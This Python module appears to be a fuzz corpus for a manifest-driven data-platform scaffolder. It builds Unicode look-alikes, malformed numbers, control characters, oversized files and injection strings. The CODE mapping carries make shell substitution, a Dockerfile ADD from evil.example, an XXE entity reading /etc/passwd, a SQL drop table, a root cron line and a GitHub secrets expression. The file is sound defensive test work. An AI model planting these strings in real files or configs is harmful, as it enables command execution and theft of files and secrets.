"""A second generation of hostile inputs, of kinds that the first ones lack.

Names that are the same and are not, moments and numbers in every key, line ends and marks inside, code of many languages in
every key, and files of a repository that only later readers look at.
"""

# ruff: noqa: E501, RUF001 (many small inputs a line, and look-alikes are among them)

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping

HEAD = "version: 1\nname: shop\nstyle: data-mesh\n"

FORMS: Mapping[str, str] = {
    "composed-keys": "é: 1\ne\u0301: 2\n", "composed-ids": "domains: [{id: a, title: é}, {id: a, title: e\u0301}]\n", "wide-key": "ｔｉｔｌｅ: x\n", "wide-value": "style2: ｌａｋｅ\n",
    "kelvin": "domains: [{id: k}, {id: \u212a}]\n", "dotless": "domains: [{id: i}, {id: ı}]\n", "sharp": "domains: [{id: strasse}, {id: straße}]\n", "ligature": "title: ﬁnance\nTITLE: finance\n",
    "case-ids": "domains: [{id: sales}, {id: SALES}, {id: Sales}]\n", "joined": "domains: [{id: sa\u200dles}]\n", "soft": "ti\u00adtle: x\n", "variation": "title\ufe0f: x\n", "tagged": "title\U000e0074: x\n",
    "spaces": "title : x\n'title ': y\n' title': z\n", "no-break": "title\u00a0: x\n", "ideographic": "title\u3000: x\n", "figure": "title:\u2007x\n", "greek": "ѕtyle: x\nstуle: y\n", "hangul": "한: 1\n한: 2\n",
    "combining-ids": f"domains: [{{id: a{chr(0x301) * 40}}}]\n", "reversed": "owner: \u202emoc.elpmaxe@nna\n", "isolated": "title: \u2066x\u2069\n", "plane": "title: \U0010fffd\n", "private": "title: \ue000\n",
    "two-titles": "title: a\n\"title\": b\n", "escaped-title": 'title: a\n"\\x74itle": b\n', "escaped-case": 'title: a\n"\\u0054itle": b\n', "quoted-version": '"version": 1\n', "plain-quoted": "'name': shop\n",
}  # fmt: skip
"""Keys and names that are the same in one reading, and not in another."""

_MOMENTS = [
    "2026-11-27T24:00:00Z", "2026-W48-5", "2026-331", "20261127T101112", "12026-01-01", "-2026-01-01", "0000-00-00", "2026-11-27 10:11:12.123456789 +25:99", "1:60:60", "190:20:30", "-190:20:30.15",
    "0o17", "0o8", "017.5", "0b102", "1_2_3", "_1", "1_", "0x1p3", "1e-400", "-0.0", "1e1000000000000", ".1e", "9" * 400, "0." + "0" * 400 + "1", "NaN", "nan", ".nan", "-.inf", "Infinity", "True", "tRUE", "nO", "Off",
    "1,000.5", "1'000", "½", "①", "Ⅷ", "৩", "1\u00a0000", "1\u202f000", "５０", "+ 5", "--5", "5-", "5%", "5 GB", "€5", "0777", "1.7976931348623159e308", "5e-324", "18446744073709551616", "-9223372036854775809",
]  # fmt: skip
_NUMBERED = (
    "processing: {daily_gb: %s}", "finops: {monthly_budget: %s}", "team: {engineers: %s}", "security: {audit_retention_days: %s}",
    "products: [{id: p, domain: a, retention_days: %s}]", "objectives: [{id: o, kpi: k, target: %s, owner: a@b.c}]", "date: %s",
    "decide: [{decision: platform-style, date: %s}]", "waivers: [{rule: no-objective, reason: x, owner: a@b.c, until: %s}]",
)  # fmt: skip

LINES: Mapping[str, str | bytes] = {
    "returns": HEAD.replace("\n", "\r"), "mixed": "version: 1\r\nname: shop\rstyle: data-mesh\n", "next-line": "version: 1\x85name: shop\x85style: data-mesh\x85", "separators": "version: 1\u2028name: shop\u2029style: x\n",
    "form-feed": HEAD + "\ftitle: x\n", "vertical": HEAD + "title:\vx\n", "tabs-after": "version:\t1\nname:\tshop\nstyle:\tdata-mesh\t\n", "tab-comment": HEAD + "\t# a\n", "tab-list": HEAD + "domains:\n-\tid: a\n",
    "mark-twice": "\ufeff\ufeff" + HEAD, "mark-later": HEAD + "\ufeffdomains: [a]\n", "mark-in-key": "version: 1\nna\ufeffme: shop\n", "no-end": HEAD.rstrip("\n"), "only-returns": "\r\r\r\r", "only-marks": "\ufeff\ufeff\ufeff",
    "utf-16-mark": b"\xff\xfev\0e\0r\0s\0", "utf-32-mark": b"\xff\xfe\0\0v\0\0\0", "half-utf-16": b"\xfe\xff\0v\0", "zero-end": HEAD.encode() + b"\0", "zero-start": b"\0" + HEAD.encode(), "sub": HEAD.encode() + b"\x1a",
    "escape-end": HEAD.encode() + b"\x1b", "crlf-quoted": HEAD + 'title: "a\r\n\r\n b"\r\n', "folded-returns": HEAD + "title: >-\r\n  a\r  b\n", "document-end": HEAD + "...\n...\n", "directive-after": HEAD + "%YAML 1.2\n",
    "long-comment": HEAD + "# " + "\u202e" * 20_000 + "\n", "many-ends": HEAD + "\r\n\r\r\n" * 20_000, "spaces-before": " \n \n \n" + HEAD, "backspace": HEAD + "title: a\bb\n", "overstrike": HEAD + "title: a\b\b\b\bsecret\n",
}  # fmt: skip
"""Line ends, marks and controls where texts begin, end and turn."""

CODE: Mapping[str, str] = {
    "lines": "one\\n- two: 3\\n\\nRUN touch owned\\n# four", "returns": "one\\rtwo\\r\\nthree", "make": "$(shell touch owned) $$(id) $@", "hcl-loop": "%{ for x in y }${x}%{ endfor }", "jinja-raw": "{%- raw -%}{{ x }}{%- endraw -%}{%",
    "sql-dollar": "$$; drop table x; $$ /*! x */ --", "expression": "${{ secrets.TOKEN }} ${{ fromJSON(x) }}", "entity": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "format": "{0.__class__} %(x)s %n {x!r:>{y}}",
    "dotenv": "x\\nPASSWORD=${HOME}`id`", "owners": "* @evil\\n/ @evil # x", "docker": "x\\nUSER root\\nADD http://evil.example/x /", "rego": "\\\" } allow if true #", "cron": "* * * * * root touch owned", "star": "*" * 50,
    "link": "[x](file:///etc/passwd) <a:b> ![](//evil.example)", "math": "$x$ \\\\(y\\\\) \\\\input{/etc/passwd}", "backticks": "````\\n```yaml\\nx", "nul-escape": "a\\u0000b", "bidi-escape": "a\\u202eb\\u2066c",
}  # fmt: skip
"""Texts that are code for what is generated, escaped as YAML and JSON write them between double quotes."""

_PLACES = (
    'title: "%s"', 'owner: "%s"', 'industry: "%s"', 'regimes: ["%s"]', 'why: ["%s"]', 'style: "%s"', 'name: "%s"', 'date: "%s"', '"%s": 1', 'blueprint_sources: ["%s"]', 'cloud: {regions: [{name: "%s"}]}',
    'domains: [{id: "%s"}]', 'domains: [{id: a, owner: "%s"}]', 'sources: [{id: s, kind: "%s"}]', 'sources: [{id: s, where: "%s"}]', 'products: [{id: p, domain: "%s"}]', 'products: [{id: p, inputs: ["%s"]}]',
    'products: [{id: p, contract: "%s"}]', 'products: [{id: p, fields: [{name: "%s", type: string}]}]', 'products: [{id: p, classification: "%s"}]', 'objectives: [{id: o, kpi: "%s"}]', 'decide: [{decision: "%s"}]',
    'decide: [{decision: platform-style, why: "%s", deciders: ["%s"]}]', 'waivers: [{rule: "%s", reason: "%s"}]', 'finops: {owner: "%s"}', 'processing: {"%s": 1}', 'needs: [{quality: "%s"}]',
)  # fmt: skip


def manifests() -> Iterator[tuple[str, str, str | bytes]]:
    """Every manifest of this generation: its class, its name and its text."""
    for name, text in FORMS.items():
        yield "forms", name, HEAD + text
    for number, value in enumerate(_MOMENTS):
        for place, row in enumerate(_NUMBERED):
            if (number + place) % 3 == 0:  # each value in three keys, each key with a third of the values
                yield "moments", f"{number:02}-{place}", HEAD + row.replace("%s", value) + "\n"
    for name, content in LINES.items():
        yield "lines", name, content
    for number, (name, text) in enumerate(CODE.items()):
        for place, row in enumerate(_PLACES):
            if (number + place) % 2 == 0:
                kept = "".join(f"{line}\n" for line in HEAD.splitlines() if not row.startswith(line.partition(":")[0] + ":"))
                yield "code", f"{name}-{place:02}", kept + row.replace("%s", text) + "\n"


_SHAPES = {
    "number": "7\n", "text": "text\n", "list": "[1, null, {}, [[]]]\n", "nothing": "null\n", "mapping": "{a: {b: {c: [1]}}}\n", "open": "a: [\n", "itself": "&a {b: *a}\n", "deep": "a: " + "[" * 70 + "]" * 70 + "\n",
    "keys": "".join(f"k{n}: {{a: 1}}\n" for n in range(20_000)), "bytes": b"\xff\xfe\0",
}  # fmt: skip
_SHAPED = (
    "policies/masking.yaml", "policies/retention.yaml", "policies/access.yaml", "finops/budget.yaml", "openlineage.yml", ".github/dependabot.yml", "deploy/compose.yaml", "ingestion/landings.json", ".gitlab-ci.yml",
    "azure-pipelines.yml", "domains/sales/domain.yaml", "packages.yml",
)  # fmt: skip

_FILES: Mapping[str, Mapping[str, str | bytes]] = {
    "policies/masking.yaml": {
        "shapes": "a: {shows: [x], columns: 7}\nb: {shows: orders, columns: [1]}\nc: 7\n", "columns": "a:\n  shows: orders\n  columns:\n" + "".join(f"    c{n}: {{class: restricted}}\n" for n in range(20_000)),
        "classes": "a: {shows: orders, columns: {x: {class: [a]}, y: 7, z: {class: {}}}}\n",
    },
    "requirements.in": {
        "names": "a\n" * 60_000, "spaces": "a" + " " * 300_000 + "\n", "brackets": "a[" * 100_000, "marks": "a;" * 100_000, "hash": "a==1 --hash=sha256:" + "0" * 300_000, "zero": "a\0b\n", "signs": "a >= " * 60_000,
    },
    "deploy/compose.yaml": {
        "shapes": "services: {a: 7, b: [], c: {volumes: {x: y}, cap_add: 7, user: [0], deploy: [], image: {}}, d: null}\n", "many": "services:\n" + "".join(f"  s{n}: {{privileged: true}}\n" for n in range(15_000)),
        "names": 'services: {"a\\n b": {privileged: true}, "\\u202e": {user: root}, 7: {}, "": {user: 0}}\n', "merge": "x: &x {a: 1}\nservices: {a: {<<: *x, privileged: yes}}\n",
    },
    "k8s/a.yaml": {
        "pods": "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: 7, initContainers: {}, volumes: [1, {hostPath: []}], nodeSelector: 7, os: x, securityContext: [1]}\n",
        "containers": "apiVersion: v1\nkind: Pod\nmetadata: {}\nspec: {containers: [{image: a, securityContext: 7, resources: [], volumeMounts: {}}, {image: [], securityContext: {runAsUser: 1e999, capabilities: 7}}]}\n",
        "many": "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n" + "  - {image: a}\n" * 20_000, "cron": "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: [a]}\nspec: {jobTemplate: {spec: [7]}}\n",
        "limits": "apiVersion: v1\nkind: LimitRange\nmetadata: {name: {}}\nspec: 7\n", "user": f"apiVersion: v1\nkind: Pod\nmetadata: {{name: a}}\nspec: {{containers: [{{image: a, securityContext: {{runAsUser: {'9' * 5000}}}}}]}}\n",
    },
    "infra/versions.tf": {
        "providers": 'terraform {\n  required_providers {\n    a = 7\n    b = []\n    c = { version = 1 }\n    d = { version = "' + ">=" * 20_000 + '" }\n  }\n}\nprovider "a" {}\n',
        "commas": 'terraform {\n  required_providers {\n    a = { version = "' + "," * 100_000 + '" }\n  }\n}\nprovider "a" {}\n', "labels": 'variable {}\nresource "a" {}\nlocals "x" {}\nprovider {}\nterraform "a" "b" {}\n',
        "regions": 'variable "region" {\n  default = ["a"]\n}\nlocals {\n  region = { a = 1 }\n  location = ""\n}\nprovider "aws" {\n  region = 7\n}\n', "many": "".join(f'variable "v{n}" {{\n  default = {n}\n}}\n' for n in range(2_500)),
        "same": 'provider "aws" {\n  region = "x"\n  region = "y"\n}\n', "names": 'resource "aws_kms_key" "\u202ea\\n" {\n  deletion_window_in_days = -1e999\n}\n',
    },
    ".github/workflows/ci.yml": {
        "conditions": "on: push\njobs: {a: {if: [false], steps: [{if: {}, run: make test}, {if: false, run: [x]}]}, b: {if: '${{" + " " * 50_000 + "false', steps: []}}\n",
        "checkouts": "on: push\njobs:\n  a:\n    steps:\n" + "    - {uses: actions/checkout@v4, with: 7}\n" * 8_000, "with": "on: push\njobs: {a: {steps: [{uses: actions/checkout@v4, with: {persist-credentials: [no]}}, {uses: actions/checkout}]}}\n",
        "pushes": "on: push\njobs: {a: {steps: [{uses: actions/checkout@v4}, {run: '" + "git " * 100_000 + "'}]}}\n", "triggers": "on: [[push], {a: b}, 7, null]\njobs: {}\n", "no": "no: push\njobs: {a: {steps: []}}\n",
    },
    "docs/operations/runbooks/a.md": {"spaces": " " * 900_000, "dashes": "- " * 400_000, "fences": "~~~\n" * 200_000, "digits": "1" * 900_000, "lines": "\n" * 900_000},
    "CODEOWNERS": {"bidi": "/domains/\u202esales/ @a\n", "tabs": "\t/domains/sales/\t@a\t\n", "comments": "#" * 500_000, "escapes": "/a\\ b/ @x\n\\#c @y\n", "spaces": "/domains/sales/" + " " * 500_000 + "@a\n"},
    "openlineage.yml": {"transport": "transport: [7]\ndisabled: {}\n", "type": "transport: {type: [noop]}\n"},
    ".github/dependabot.yml": {"updates": "updates: [7, {ignore: x}, {ignore: [1, {}, {dependency-name: ['*']}]}]\n", "many": "updates:\n" + "- {ignore: [{dependency-name: '*'}]}\n" * 10_000},
    "models/a.sql": {"enabled": "{{ config(enabled=false) }}\n" * 20_000, "spaces": "enabled" + " " * 500_000 + "=", "comment": "{# enabled=false" + "#" * 400_000},
}  # fmt: skip
"""Files that later readers look at, by path and by what is wrong with them."""

_TESTS = "models: [{name: a, columns: [{name: b, data_tests: [%s]}]}]\n"
_SETTINGS = [
    "unique: {config: 7}", "unique: {where: [1]}", "unique: {error_if: {}}", "unique: {error_if: '>" + " " * 50_000 + "1'}", "unique: {where: '" + "1 " * 50_000 + "'}", "unique: {severity: [warn]}", "{unique: null, not_null: 7}",
    "7: {severity: warn}", "'': {}", "unique: &a {config: *a}",
]  # fmt: skip


def repositories() -> Iterator[tuple[str, Mapping[str, str | bytes]]]:
    """Every repository of this generation: a name, and the files that lie in it beside what all of them hold."""
    dbt = {"dbt_project.yml": "name: shop\n"}
    for path in _SHAPED:
        for name, content in _SHAPES.items():
            yield f"{path}-{name}", {path: content}
    for path, texts in _FILES.items():
        for name, content in texts.items():
            yield f"later-{path}-{name}", {**(dbt if path.startswith("models/") else {}), path: content}
    for number, row in enumerate(_SETTINGS):
        yield f"later-tests-{number}", {**dbt, "models/a.sql": "select 1", "models/a.yml": _TESTS % f"{{{row}}}"}
    lock = {"version": 1, "files": {"infra/main.tf": "sha256:0", "models/a.yml": "sha256:0"}}
    base: Mapping[str, bytes] = {"none": b"", "cut": b"BZh91AY&SY", "text": b"text", "bomb": b"BZh9" + b"\0" * 1000}
    for name, packed in base.items():
        files = {".scaffold/lock.json": json.dumps(lock), ".scaffold/base.tar.bz2": packed}
        yield f"later-base-{name}", {**files, "infra/main.tf": 'resource "a" "b" {}\n', "models/a.yml": "models: []\n", **dbt}
